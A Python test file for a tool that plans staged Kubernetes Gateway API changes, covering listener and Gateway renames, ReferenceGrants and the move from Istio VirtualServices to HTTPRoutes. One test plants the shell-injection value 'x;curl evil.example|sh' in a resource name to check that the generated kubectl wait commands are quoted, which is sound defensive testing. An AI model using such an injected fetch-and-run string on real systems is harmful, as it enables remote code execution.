"""The staged plan for Gateway API changes: make before break, transitions for renamed listeners,
renamed Gateways, handovers between VirtualServices and routes, and waits that read Gateway API status."""

from __future__ import annotations

import shlex

import yaml

from bot.plan import stage_files
from bot.report import Report
from tests.helpers import diff

GATEWAY = """apiVersion: gateway.networking.k8s.io/v1
kind: Gateway
metadata: {{name: {name}, namespace: infra}}
spec:
  gatewayClassName: istio
  listeners:
  - name: {listener}
    port: 80
    protocol: HTTP
    allowedRoutes:
      namespaces:
        from: {allowed}
{selector}"""


def gateway(name: str = "public", listener: str = "http", allowed: str = "All", selector: str = "") -> str:
    return GATEWAY.format(name=name, listener=listener, allowed=allowed, selector=selector)


ROUTE = """apiVersion: gateway.networking.k8s.io/v1
kind: HTTPRoute
metadata: {{name: storefront, namespace: shop}}
spec:
  parentRefs:
  - name: {gateway}
    namespace: infra
    sectionName: {listener}
  hostnames: [shop.example.com]
  rules:
  - backendRefs:
    - name: {service}
      namespace: {namespace}
      port: 8080
"""


def route(gateway: str = "public", listener: str = "http", service: str = "storefront", namespace: str = "shop") -> str:
    return ROUTE.format(gateway=gateway, listener=listener, service=service, namespace=namespace)


def service(name: str, namespace: str = "shop") -> str:
    return (f"apiVersion: v1\nkind: Service\nmetadata: {{name: {name}, namespace: {namespace}}}\n"
            "spec: {ports: [{port: 8080}]}\n")


GRANT = """apiVersion: gateway.networking.k8s.io/v1beta1
kind: ReferenceGrant
metadata: {name: from-shop, namespace: payments}
spec:
  from: [{group: gateway.networking.k8s.io, kind: HTTPRoute, namespace: shop}]
  to: [{group: "", kind: Service}]
"""


def stages(report: Report) -> list[tuple[list[str], list[str]]]:
    """(applied, deleted) resources per stage, as the report names them."""
    return [([report.label(s.resource) for s in st.apply], [report.label(s.resource) for s in st.delete])
            for st in report.plan.stages]


def test_a_route_following_a_renamed_listener_is_bridged_by_a_transition_version() -> None:
    report = diff({"gw.yaml": gateway(listener="http"), "route.yaml": route(listener="http")},
                  {"gw.yaml": gateway(listener="web"), "route.yaml": route(listener="web")})
    plan = report.plan
    assert stages(report) == [(["HTTPRoute shop/storefront"], []), (["Gateway infra/public"], []),
                            (["HTTPRoute shop/storefront"], [])]
    assert [st.title for st in plan.stages] == [
        "Apply HTTPRoute shop/storefront naming both the old and the new parents", "Apply Gateway infra/public",
        "Remove the old parentRefs from HTTPRoute shop/storefront"]
    assert list(stage_files(plan)) == ["stage-1.yaml"]  # only the transition version is generated
    transition = yaml.safe_load(stage_files(plan)["stage-1.yaml"])
    assert [p["sectionName"] for p in transition["spec"]["parentRefs"]] == ["web", "http"]
    assert [st.files for st in plan.stages] == [(), ("gw.yaml",), ("route.yaml",)]  # the rest as written
    final = yaml.safe_load(plan.stages[2].apply[0].source)
    assert [p["sectionName"] for p in final["spec"]["parentRefs"]] == ["web"]
    assert plan.stages[0].wait == ("kubectl wait --for=jsonpath='{.status.parents[?(@.parentRef.sectionName==\"http\")]"
                                   ".conditions[?(@.type==\"Accepted\")].status}'=True "
                                   "httproute.gateway.networking.k8s.io/storefront -n shop")
    assert plan.stages[1].wait == "kubectl wait --for=condition=Programmed gateway.gateway.networking.k8s.io/public -n infra"
    assert report.findings == ()


def test_a_transition_version_stays_one_when_what_follows_it_waits_for_a_fix() -> None:
    raw = "  - name: raw\n    port: 80\n    protocol: TCP\n"  # conflicts with listener web: an error on the Gateway
    report = diff({"gw.yaml": gateway(listener="http"), "route.yaml": route(listener="http")},
                  {"gw.yaml": gateway(listener="web") + raw, "route.yaml": route(listener="web")})
    assert [(f.rule, f.resource.display) for f in report.headline()] == [("listener-conflict", "Gateway infra/public")]
    assert [report.label(r) for r in report.plan.left_out] == ["Gateway infra/public", "HTTPRoute shop/storefront"]
    (stage,) = report.plan.stages
    assert [(report.label(s.resource), s.generated) for s in stage.steps] == [
        ("HTTPRoute shop/storefront", "the transition version")]
    assert stage.files == ()  # route.yaml as written names only listener web, which the Gateway does not have yet
    transition = yaml.safe_load(stage_files(report.plan)["stage-1.yaml"])
    assert [p["sectionName"] for p in transition["spec"]["parentRefs"]] == ["web", "http"]


def test_wait_commands_quote_what_a_manifest_names() -> None:
    hostile = "x;curl evil.example|sh"
    def named(listener: str) -> str:
        return route(listener=listener).replace("name: storefront", f'name: "{hostile}"')

    report = diff({"gw.yaml": gateway(listener="http"), "route.yaml": named("http")},
                  {"gw.yaml": gateway(listener="web"), "route.yaml": named("web")})
    waits = [st.wait for st in report.plan.stages[:2]]
    assert waits[0] is not None and shlex.split(waits[0])[-3:] == [
        f"httproute.gateway.networking.k8s.io/{hostile}", "-n", "shop"]
    assert waits[1] is not None and shlex.split(waits[1])[-3:] == [
        "gateway.gateway.networking.k8s.io/public", "-n", "infra"]


def test_a_renamed_gateway_is_added_routes_move_then_the_old_one_goes() -> None:
    report = diff({"gw.yaml": gateway("public"), "route.yaml": route("public")},
                  {"gw.yaml": gateway("public-v2"), "route.yaml": route("public-v2")})
    assert stages(report) == [(["Gateway infra/public-v2"], []), (["HTTPRoute shop/storefront"], []),
                                   ([], ["Gateway infra/public"])]
    waits = [st.wait for st in report.plan.stages]
    assert waits[0] == "kubectl wait --for=condition=Programmed gateway.gateway.networking.k8s.io/public-v2 -n infra"
    assert waits[1] is not None and 'parentRef.sectionName=="http"' in waits[1] and waits[2] is None
    (note,) = report.plan.stages[2].notes
    assert note.startswith("Gateway infra/public-v2 has its own address (kubectl get gateway.gateway.networking.k8s.io "
                           "public-v2 -n infra -o jsonpath='{.status.addresses[*].value}')")
    assert [(c.change, c.resource.name) for c in report.changes] == [("renamed", "public-v2"),
                                                                   ("modified", "storefront")]


def test_a_new_backend_and_its_grant_come_first_and_the_old_backend_goes_last() -> None:
    base = {"route.yaml": route(), "svc.yaml": service("storefront")}
    head = {"route.yaml": route(service="checkout", namespace="payments"), "svc.yaml": service("checkout", "payments"),
            "grant.yaml": GRANT}
    report = diff(base, head)
    assert stages(report) == [(["ReferenceGrant payments/from-shop", "Service payments/checkout"], []),
                                   (["HTTPRoute shop/storefront"], []), ([], ["Service shop/storefront"])]
    first = report.plan.stages[0].wait or ""
    assert first.endswith("sleep 10  # ReferenceGrant payments/from-shop: no status to wait on; give istiod a few seconds")
    assert report.findings == ()


def test_a_route_moves_off_a_grant_before_it_is_removed() -> None:
    base = {"route.yaml": route(service="checkout", namespace="payments"), "grant.yaml": GRANT,
            "svc.yaml": service("checkout", "payments") + "---\n" + service("storefront")}
    head = {"route.yaml": route(), "svc.yaml": service("checkout", "payments") + "---\n" + service("storefront")}
    assert stages(diff(base, head)) == [(["HTTPRoute shop/storefront"], []),
                                             ([], ["ReferenceGrant payments/from-shop"])]


def test_a_namespace_label_a_listener_selects_comes_before_the_route() -> None:
    selector = "        selector: {matchLabels: {gateway-access: 'yes'}}\n"
    ns = "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: shop\n  labels: {{{labels}}}\n"
    base = {"gw.yaml": gateway(allowed="Selector", selector=selector), "ns.yaml": ns.format(labels="team: shop")}
    head = {"gw.yaml": gateway(allowed="Selector", selector=selector),
            "ns.yaml": ns.format(labels="team: shop, gateway-access: 'yes'"), "route.yaml": route()}
    report = diff(base, head)
    assert stages(report) == [(["Namespace shop"], []), (["HTTPRoute shop/storefront"], [])]
    assert report.plan.stages[0].wait == "sleep 10  # Namespace shop: no status to wait on; give istiod a few seconds"
    assert [(c.resource.display, c.what) for c in report.changes] == [
        ("HTTPRoute shop/storefront", ("added",)), ("Namespace shop", ("label gateway-access=yes added",))]


VS = """apiVersion: networking.istio.io/v1
kind: VirtualService
metadata: {name: storefront, namespace: shop}
spec:
  hosts: [shop.example.com]
  gateways: [istio-system/ingress]
  http:
  - route:
    - destination: {host: storefront.shop.svc.cluster.local, port: {number: 8080}}
"""
ISTIO_GATEWAY = """apiVersion: networking.istio.io/v1
kind: Gateway
metadata: {name: ingress, namespace: istio-system}
spec:
  selector: {istio: ingressgateway}
  servers:
  - port: {number: 80, name: http, protocol: HTTP}
    hosts: ["*/shop.example.com"]
"""


def test_a_hostname_moving_from_istio_apis_to_a_route_is_served_before_it_is_let_go() -> None:
    base = {"istio.yaml": ISTIO_GATEWAY + "---\n" + VS, "svc.yaml": service("storefront")}
    head = {"gw.yaml": gateway(), "route.yaml": route(), "svc.yaml": service("storefront")}
    report = diff(base, head)
    assert stages(report) == [(["Gateway (gateway.networking.k8s.io) infra/public"], []),
                                   (["HTTPRoute shop/storefront"], []),
                                   ([], ["VirtualService shop/storefront"]),
                                   ([], ["Gateway istio-system/ingress"])]
    assert report.qualified == ("KubernetesGateway",)
